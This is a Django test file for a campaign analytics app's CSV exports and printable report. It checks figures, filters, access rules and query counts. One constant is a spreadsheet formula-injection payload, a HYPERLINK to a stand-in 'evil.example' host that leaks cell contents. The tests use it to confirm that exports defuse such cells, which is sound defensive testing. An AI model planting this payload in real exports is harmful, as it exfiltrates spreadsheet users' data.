"""CSV downloads of the pages' tables and the printable campaign report: columns and cell
format, filters and period, undefined metrics, formula injection, access, query counts, and the
daily rows importing back unchanged."""

import csv
import html
import io
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.dateparse import parse_date

from campaigns import exports, services
from campaigns.models import Campaign, DailyMetric
from campaigns.tenancy import scope, scopes_disabled
from tests.factories import CampaignFactory, DailyMetricFactory, add_campaigns

pytestmark = pytest.mark.django_db

JANUARY = "?period=custom&start=2026-01-01&end=2026-01-31"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

CAMPAIGN_LIST_HEADER = [
    "id",
    "name",
    "channel",
    "status",
    "budget",
    "start_date",
    "end_date",
    "impressions",
    "clicks",
    "leads",
    "qualified_leads",
    "hot_leads",
    "conversions",
    "revenue",
    "spend",
    "profit",
    "roi",
    "roas",
    "cost_per_lead",
    "conversion_rate",
    "ctr",
    "cpc",
    "cost_per_conversion",
    "health",
    "health_reasons",
    "currency",
]
IMPORT_HEADER = [
    "date",
    "campaign",
    "impressions",
    "clicks",
    "leads",
    "qualified_leads",
    "hot_leads",
    "conversions",
    "revenue",
    "spend",
]


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# --- Helpers ---------------------------------------------------------------------------------


def csv_url(name: str, location, campaign=None, query: str = "") -> str:
    args = [location.slug] if campaign is None else [location.slug, campaign.pk]
    return reverse(f"campaigns:{name}", args=args) + query


def download(client, url: str) -> list[dict[str, str]]:
    """The CSV at ``url`` as rows of {column: cell}, after checking it is a CSV attachment."""
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def header(client, url: str) -> list[str]:
    return next(csv.reader(io.StringIO(client.get(url).content.decode("utf-8"))))


def text(response) -> str:
    return html.unescape(response.content.decode())


def table_rows(page: str, table_id: str) -> int:
    """How many body rows the table with ``table_id`` has."""
    table = page.split(f'id="{table_id}"', 1)[1].split("</table>", 1)[0]
    return table.split("<tbody>", 1)[1].split("</tbody>", 1)[0].count("<tr")


def loser(location, name: str = "Losing Social", **fields) -> Campaign:
    """A campaign that spent 600.00 for 400.00 of revenue in January (ROI −33.3 %)."""
    campaign = CampaignFactory(
        location=location, name=name, channel="social", budget=Decimal("2000.00"), **fields
    )
    DailyMetricFactory(
        campaign=campaign,
        date=date(2026, 1, 20),
        leads=8,
        conversions=2,
        revenue=Decimal("400.00"),
        spend=Decimal("600.00"),
    )
    return campaign


def db_days(location) -> list[tuple]:
    with scope(location):
        return list(
            DailyMetric.objects.order_by("campaign_id", "date").values_list(
                "campaign_id", "date", *DailyMetric.NUMBER_FIELDS
            )
        )


# --- The campaign list ----------------------------------------------------------------------


def test_the_campaign_list_csv_holds_the_reference_figures(
    client, sunrise_manager, reference_campaign
):
    client.force_login(sunrise_manager)
    url = csv_url("campaigns_csv", reference_campaign.location, query=JANUARY)

    assert header(client, url) == CAMPAIGN_LIST_HEADER
    [row] = download(client, url)
    assert row.pop("health") == "ended"
    assert row.pop("health_reasons").startswith(
        "Ended Jan 31, 2026. Spent $5,000.00 of its $5,000.00 budget (100.0 %), lifetime. "
        "Leads: 80.0 % of target — missed."
    )
    assert row == {
        "id": str(reference_campaign.pk),
        "name": "January SMS Blast",
        "channel": "sms",
        "status": "completed",
        "budget": "5000.00",
        "start_date": "2026-01-01",
        "end_date": "2026-01-31",
        "impressions": "10000",
        "clicks": "500",
        "leads": "120",
        "qualified_leads": "30",
        "hot_leads": "12",
        "conversions": "12",
        "revenue": "18000.00",
        "spend": "5000.00",
        "profit": "13000.00",
        "roi": "2.600000",
        "roas": "3.600000",
        "cost_per_lead": "41.67",
        "conversion_rate": "0.100000",
        "ctr": "0.050000",
        "cpc": "10.00",
        "cost_per_conversion": "416.67",
        "currency": "USD",
    }


def test_the_campaign_list_csv_honours_the_filters_sort_and_period(
    client, sunrise_manager, sunrise
):
    for name, channel, status, spends in [
        ("Email small", "email", "active", {date(2026, 1, 5): "100.00"}),
        ("Email big", "email", "active", {date(2026, 1, 6): "300.00", date(2026, 3, 1): "900"}),
        ("Email paused", "email", "paused", {date(2026, 1, 7): "500.00"}),
        ("SMS active", "sms", "active", {date(2026, 1, 8): "700.00"}),
    ]:
        campaign = CampaignFactory(location=sunrise, name=name, channel=channel, status=status)
        for day, spend in spends.items():
            DailyMetricFactory(campaign=campaign, date=day, spend=Decimal(spend))
    client.force_login(sunrise_manager)

    rows = download(
        client,
        csv_url(
            "campaigns_csv", sunrise, query=JANUARY + "&status=active&channel=email&sort=-spend"
        ),
    )

    # Only active email campaigns, by spend descending, counting January only.
    assert [(r["name"], r["spend"]) for r in rows] == [
        ("Email big", "300.00"),
        ("Email small", "100.00"),
    ]


def test_the_campaign_list_csv_keeps_the_pages_search(client, sunrise_manager, sunrise):
    for name in ["Spring mailer", "Spring SMS", "Autumn mailer"]:
        CampaignFactory(location=sunrise, name=name)
    client.force_login(sunrise_manager)

    rows = download(client, csv_url("campaigns_csv", sunrise, query=JANUARY + "&q=spring"))

    assert sorted(r["name"] for r in rows) == ["Spring SMS", "Spring mailer"]


def test_the_campaign_list_csv_defaults_to_the_pages_period(client, sunrise_manager, sunrise):
    today = sunrise.today()
    campaign = CampaignFactory(location=sunrise, start_date=today - timedelta(days=90))
    DailyMetricFactory(campaign=campaign, date=today - timedelta(days=2), spend=Decimal("10.00"))
    DailyMetricFactory(campaign=campaign, date=today - timedelta(days=60), spend=Decimal("99.00"))
    client.force_login(sunrise_manager)

    response = client.get(csv_url("campaigns_csv", sunrise))

    # The default 30 days are complete days: they end yesterday.
    end = today - timedelta(days=1)
    start = end - timedelta(days=29)
    assert response["Content-Disposition"] == (
        f'attachment; filename="sunrise-realty-campaigns-{start:%Y-%m-%d}-to-{end:%Y-%m-%d}.csv"'
    )
    [row] = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["spend"] == "10.00"


def test_an_undefined_metric_is_an_empty_cell_never_zero(client, sunrise_manager, sunrise):
    CampaignFactory(location=sunrise, name="Nothing recorded yet")
    client.force_login(sunrise_manager)

    [row] = download(client, csv_url("campaigns_csv", sunrise, query=JANUARY))

    assert (row["spend"], row["revenue"], row["profit"], row["leads"]) == (
        "0.00",
        "0.00",
        "0.00",
        "0",
    )
    for metric in ("roi", "roas", "cost_per_lead", "conversion_rate", "ctr", "cpc"):
        assert row[metric] == "", metric
    assert row["cost_per_conversion"] == ""
    assert row["end_date"] == ""


def test_a_name_that_looks_like_a_formula_is_defused_but_a_loss_stays_a_number(
    client, sunrise_manager, sunrise, reference_campaign
):
    evil = loser(sunrise, name=EVIL_NAME)
    client.force_login(sunrise_manager)

    rows = download(client, csv_url("campaigns_csv", sunrise, query=JANUARY + "&sort=roi"))
    row = rows[0]
    assert row["name"] == "'" + EVIL_NAME
    assert (row["profit"], row["roi"]) == ("-200.00", "-0.333333")

    [day] = download(client, csv_url("days_csv", sunrise, evil))
    assert day["campaign"] == "'" + EVIL_NAME

    ids = f"{evil.pk},{reference_campaign.pk}"
    compared = download(client, csv_url("compare_csv", sunrise, query=JANUARY + "&ids=" + ids))
    assert compared[1]["name"] == "'" + EVIL_NAME
    assert compared[1]["profit"] == "-200.00"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Spring -20 % sale", "Spring -20 % sale"),
        ("", ""),
    ],
)
def test_text_cells_that_start_like_a_formula_get_an_apostrophe(value, cell):
    assert exports.text(value) == cell


def test_number_cells_are_plain_decimals():
    assert exports.money(Decimal("-1200")) == "-1200.00"
    assert exports.money(Decimal("41.666666")) == "41.67"
    assert exports.money(Decimal("0.005")) == "0.01"  # half up, as on the pages
    assert exports.ratio(Decimal("2.6")) == "2.600000"
    assert exports.ratio(Decimal("1") / Decimal("3")) == "0.333333"
    assert exports.ratio(Decimal("-0.5")) == "-0.500000"
    assert exports.ratio(None) == exports.money(None) == ""


# --- A campaign's days ----------------------------------------------------------------------


def test_the_days_csv_is_the_import_format_with_the_recorded_days(
    client, sunrise_viewer, reference_campaign
):
    client.force_login(sunrise_viewer)
    url = csv_url("days_csv", reference_campaign.location, reference_campaign)

    response = client.get(url)
    assert response["Content-Disposition"] == (
        'attachment; filename="sunrise-realty-january-sms-blast-'
        f'{reference_campaign.pk}-days-2026-01-01-to-2026-01-31.csv"'
    )
    assert header(client, url) == IMPORT_HEADER
    rows = download(client, url)
    # Three recorded days of a 31-day campaign: no zero-filled days.
    assert rows == [
        {
            "date": "2026-01-12",
            "campaign": "January SMS Blast",
            "impressions": "4000",
            "clicks": "200",
            "leads": "50",
            "qualified_leads": "12",
            "hot_leads": "5",
            "conversions": "5",
            "revenue": "7500.00",
            "spend": "2000.00",
        },
        {
            "date": "2026-01-13",
            "campaign": "January SMS Blast",
            "impressions": "3500",
            "clicks": "170",
            "leads": "40",
            "qualified_leads": "10",
            "hot_leads": "4",
            "conversions": "4",
            "revenue": "6000.00",
            "spend": "1700.00",
        },
        {
            "date": "2026-01-14",
            "campaign": "January SMS Blast",
            "impressions": "2500",
            "clicks": "130",
            "leads": "30",
            "qualified_leads": "8",
            "hot_leads": "3",
            "conversions": "3",
            "revenue": "4500.00",
            "spend": "1300.00",
        },
    ]


def test_the_days_csv_keeps_to_the_period(client, sunrise_manager, reference_campaign):
    client.force_login(sunrise_manager)
    query = "?period=custom&start=2026-01-13&end=2026-02-28"

    rows = download(
        client, csv_url("days_csv", reference_campaign.location, reference_campaign, query)
    )

    assert [r["date"] for r in rows] == ["2026-01-13", "2026-01-14"]


def test_exported_days_import_back_unchanged(client, sunrise_manager, sunrise, reference_campaign):
    other = loser(sunrise)
    before = db_days(sunrise)
    client.force_login(sunrise_manager)

    rows = download(client, csv_url("days_csv", sunrise, reference_campaign))

    with scope(sunrise):
        by_name = {c.name: c for c in Campaign.objects.all()}
    services.record_rows(
        location=sunrise,
        rows=[
            {
                "campaign": by_name[row["campaign"]],
                "date": parse_date(row["date"]),
                **{f: int(row[f]) for f in DailyMetric.COUNT_FIELDS},
                **{f: Decimal(row[f]) for f in DailyMetric.MONEY_FIELDS},
            }
            for row in rows
        ],
    )

    after = db_days(sunrise)
    assert after == before
    assert len([d for d in after if d[0] == reference_campaign.pk]) == 3
    assert len([d for d in after if d[0] == other.pk]) == 1


# --- Comparison and channels ----------------------------------------------------------------


def test_the_comparison_csv_ranks_by_roi_with_every_ranking(
    client, sunrise_manager, sunrise, harbor, reference_campaign
):
    losing = loser(sunrise)
    idle = CampaignFactory(location=sunrise, name="Idle Email", channel="email")
    foreign = CampaignFactory(location=harbor, name="Harbor Secret")
    client.force_login(sunrise_manager)
    ids = f"{idle.pk},{losing.pk},{reference_campaign.pk},{foreign.pk}"
    url = csv_url("compare_csv", sunrise, query=JANUARY + "&ids=" + ids)

    response = client.get(url)
    assert response["Content-Disposition"] == (
        'attachment; filename="sunrise-realty-comparison-2026-01-01-to-2026-01-31.csv"'
    )
    rows = download(client, url)

    assert "Harbor Secret" not in response.content.decode()
    assert [r["name"] for r in rows] == ["January SMS Blast", "Losing Social", "Idle Email"]
    ranks = [(r["roi_rank"], r["conversion_rate_rank"], r["cost_efficiency_rank"]) for r in rows]
    # Losing Social: lead-to-conversion 25 % beats 10 %, CPL $75.00 loses to $41.67;
    # the idle campaign has no ROI, rate or CPL, so no place in any ranking.
    assert ranks == [("1", "2", "1"), ("2", "1", "2"), ("", "", "")]
    assert [(r["best_performer"], r["underperformer"]) for r in rows] == [
        ("yes", "no"),
        ("no", "yes"),
        ("no", "no"),
    ]
    assert (rows[0]["roi"], rows[0]["cost_per_lead"]) == ("2.600000", "41.67")
    assert (rows[1]["roi"], rows[1]["conversion_rate"]) == ("-0.333333", "0.250000")
    assert (rows[2]["roi"], rows[2]["spend"]) == ("", "0.00")


def test_the_comparison_csv_needs_two_campaigns(client, sunrise_manager, reference_campaign):
    client.force_login(sunrise_manager)

    response = client.get(
        csv_url("compare_csv", reference_campaign.location, query=f"?ids={reference_campaign.pk}")
    )

    assert response.status_code == 400
    assert "two or more campaigns" in response.content.decode()


def test_the_channels_csv_has_a_row_per_channel_and_the_total(
    client, sunrise_manager, sunrise, reference_campaign
):
    loser(sunrise, name="Social A")
    loser(sunrise, name="Social B")
    client.force_login(sunrise_manager)
    url = csv_url("channels_csv", sunrise, query=JANUARY)

    assert header(client, url)[:4] == ["channel", "label", "campaigns", "budget"]
    rows = download(client, url)

    assert [(r["channel"], r["label"], r["campaigns"]) for r in rows] == [
        ("sms", "SMS", "1"),
        ("social", "Social", "2"),
        ("all", "All channels", "3"),
    ]
    sms, social, total = rows
    assert (sms["roi"], sms["cost_per_lead"], sms["revenue"]) == ("2.600000", "41.67", "18000.00")
    # Pooled: (800 − 1200) / 1200 over the two social campaigns.
    assert (social["spend"], social["profit"], social["roi"]) == ("1200.00", "-400.00", "-0.333333")
    assert (total["spend"], total["revenue"], total["budget"]) == ("6200.00", "18800.00", "9000.00")
    assert total["roi"] == f"{(Decimal('18800') - 6200) / 6200:.6f}"
    assert (total["budget_share"], total["currency"]) == ("1.000000", "USD")
    # Shares of the location's profit (12,600.00): a channel that lost money has a negative one.
    assert (sms["profit_share"], social["profit_share"]) == ("1.031746", "-0.031746")
    assert sum(Decimal(r["spend_share"]) for r in (sms, social)) == Decimal("1.000000")


def test_the_channels_csv_of_an_empty_location_is_just_the_total(client, sunrise_manager, sunrise):
    client.force_login(sunrise_manager)

    rows = download(client, csv_url("channels_csv", sunrise))

    assert [(r["label"], r["campaigns"], r["roi"], r["budget_share"]) for r in rows] == [
        ("All channels", "0", "", "")
    ]


# --- Access ---------------------------------------------------------------------------------

DOWNLOADS = ["campaigns_csv", "days_csv", "compare_csv", "channels_csv", "report"]


def download_url(name: str, campaign: Campaign, other: Campaign) -> str:
    location = campaign.location
    if name in ("days_csv", "report"):
        return csv_url(name, location, campaign)
    if name == "compare_csv":
        return csv_url(name, location, query=f"?ids={campaign.pk},{other.pk}")
    return csv_url(name, location)


@pytest.mark.parametrize("name", DOWNLOADS)
def test_a_viewer_may_download(client, sunrise_viewer, sunrise, reference_campaign, name):
    client.force_login(sunrise_viewer)

    response = client.get(download_url(name, reference_campaign, loser(sunrise)))

    assert response.status_code == 200
    expected = "sms,SMS,1,5000.00" if name == "channels_csv" else "January SMS Blast"
    assert expected in response.content.decode()


@pytest.mark.parametrize("name", DOWNLOADS)
def test_a_manager_of_another_location_gets_404(
    client, harbor_manager, sunrise, reference_campaign, name
):
    client.force_login(harbor_manager)

    response = client.get(download_url(name, reference_campaign, loser(sunrise)))

    assert response.status_code == 404
    assert "January SMS Blast" not in response.content.decode()


def test_another_locations_campaign_has_no_days_or_report(
    client, harbor_manager, harbor, reference_campaign
):
    """Harbor's manager, in Harbor's URL, asking for a Sunrise campaign id."""
    client.force_login(harbor_manager)

    for name in ("days_csv", "report"):
        response = client.get(csv_url(name, harbor, reference_campaign))
        assert response.status_code == 404


@pytest.mark.parametrize("name", DOWNLOADS)
def test_an_anonymous_visitor_is_sent_to_log_in(client, sunrise, reference_campaign, name):
    url = download_url(name, reference_campaign, loser(sunrise))

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


# --- Query counts ---------------------------------------------------------------------------


def load_url(name: str, location) -> str:
    with scopes_disabled():
        pks = list(
            Campaign.objects.filter(location=location).order_by("pk").values_list("pk", flat=True)
        )
    if name in ("days_csv", "report"):
        return csv_url(name, location, Campaign(pk=pks[0]))
    if name == "compare_csv":
        return csv_url(name, location, query="?ids=" + ",".join(map(str, pks)))
    return csv_url(name, location, query="?sort=-roi")


@pytest.mark.parametrize("name", DOWNLOADS)
def test_a_download_runs_as_many_queries_for_50_campaigns_as_for_5(
    client, sunrise_manager, sunrise, harbor, name
):
    add_campaigns(harbor, 2, first=900)
    add_campaigns(sunrise, 5, first=0)
    client.force_login(sunrise_manager)

    with CaptureQueriesContext(connection) as small:
        response = client.get(load_url(name, sunrise))
    assert response.status_code == 200
    assert "Load test 000" in response.content.decode() or name == "channels_csv"

    add_campaigns(sunrise, 45, first=5)
    with CaptureQueriesContext(connection) as large:
        response = client.get(load_url(name, sunrise))
    assert response.status_code == 200
    if name == "campaigns_csv":
        assert len(list(csv.DictReader(io.StringIO(response.content.decode())))) == 50

    assert len(small) == len(large), f"{name}: {len(small)} queries for 5, {len(large)} for 50"


# --- The pages link to their downloads -------------------------------------------------------


def test_each_table_links_to_its_download_with_the_pages_query(
    client, sunrise_manager, sunrise, reference_campaign
):
    other = loser(sunrise)
    client.force_login(sunrise_manager)
    base = f"/l/{sunrise.slug}"
    pages = {
        f"{base}/campaigns/{JANUARY}&status=completed&sort=-roi": (
            f"{base}/campaigns/export.csv{JANUARY}&status=completed&sort=-roi"
        ),
        f"{base}/campaigns/{reference_campaign.pk}/{JANUARY}": (
            f"{base}/campaigns/{reference_campaign.pk}/days.csv{JANUARY}"
        ),
        f"{base}/compare/{JANUARY}&ids={reference_campaign.pk},{other.pk}": (
            f"{base}/compare/export.csv{JANUARY}&ids={reference_campaign.pk}%2C{other.pk}"
        ),
        f"{base}/channels/{JANUARY}": f"{base}/channels/export.csv{JANUARY}",
    }
    for page, download_link in pages.items():
        response = client.get(page)
        assert response.status_code == 200
        assert f'href="{download_link}" download>Download CSV</a>' in text(response), page

    response = client.get(f"{base}/campaigns/{reference_campaign.pk}/{JANUARY}")
    assert (
        f'href="{base}/campaigns/{reference_campaign.pk}/report/{JANUARY}">Printable report</a>'
    ) in text(response)


def test_a_viewer_sees_the_download_links(client, sunrise_viewer, reference_campaign):
    client.force_login(sunrise_viewer)

    response = client.get(csv_url("campaign", reference_campaign.location, reference_campaign))

    assert "Download CSV" in text(response)
    assert "Printable report" in text(response)


# --- The printable report -------------------------------------------------------------------


def test_the_printable_report_has_the_reference_figures(client, sunrise_viewer, reference_campaign):
    client.force_login(sunrise_viewer)

    response = client.get(csv_url("report", reference_campaign.location, reference_campaign))

    assert response.status_code == 200
    page = text(response)
    for figure in [
        "January SMS Blast",
        "Jan 1, 2026 – Jan 31, 2026 (31 days)",
        "$41.67",
        "260.0 %",
        "3.60x",
        "$18,000.00",
        "$13,000.00",
        "72.2 %",
        "$166.67",
        "$416.67",
        "$10.00",
        "10.0 %",
        "0.12 %",
        "Awareness → interest",
        "120 of 150",
        "12 of 15",
        "104 %",
        "Daily numbers",
    ]:
        assert figure in page, figure
    for chart in ("budget-chart", "funnel-chart", "results-chart", "money-chart"):
        assert f'<canvas data-chart="{chart}"' in page
        assert f'<script id="{chart}" type="application/json">' in page
    # The daily table lists every day of the period and ends with the period's totals.
    assert table_rows(page, "daily-table") == 31
    assert '<tr><th>Total</th><th class="num">10,000</th>' in page


def test_the_printable_report_links_its_print_stylesheet(
    client, sunrise_manager, reference_campaign
):
    client.force_login(sunrise_manager)

    page = text(client.get(csv_url("report", reference_campaign.location, reference_campaign)))

    assert '<link rel="stylesheet" href="/static/campaigns/print.css">' in page
    assert '<script src="/static/campaigns/print.js" defer></script>' in page
    assert '<button type="button" class="btn btn-primary" data-print hidden>Print</button>' in page
    css = (Path(django_settings.BASE_DIR) / "static/campaigns/print.css").read_text()
    assert "@media print" in css
    assert "@page" in css
    assert "break-inside: avoid" in css
    assert "table-header-group" in css


def test_the_printable_report_sums_weeks_for_a_long_period(
    client, sunrise_manager, reference_campaign
):
    client.force_login(sunrise_manager)
    query = "?period=custom&start=2026-01-01&end=2026-04-30"  # 120 days: ISO weeks

    page = text(
        client.get(csv_url("report", reference_campaign.location, reference_campaign, query))
    )

    assert "Weekly numbers" in page
    # The weeks of Dec 29 (cut to Jan 1–4) to Apr 27 (cut to Apr 27–30).
    assert table_rows(page, "daily-table") == 18
    cut = '<tr data-partial><td>Jan 1 – Jan 4, 2026 <span class="muted">(4 of 7 days)</span>'
    assert cut in page
    # The week of Monday Jan 12 holds all three recorded days.
    assert '<tr><td>Jan 12 – Jan 18, 2026</td><td class="num">10,000</td>' in page


def test_the_printable_report_swaps_its_period_in_place(
    client, sunrise_manager, reference_campaign
):
    client.force_login(sunrise_manager)

    response = client.get(
        csv_url(
            "report",
            reference_campaign.location,
            reference_campaign,
            "?period=custom&start=2026-01-12&end=2026-01-12",
        ),
        HTTP_HX_REQUEST="true",
    )

    assert response.status_code == 200
    page = text(response)
    assert "<html" not in page
    assert "Jan 12, 2026 – Jan 12, 2026 (1 day)" in page
    assert "$2,000.00" in page
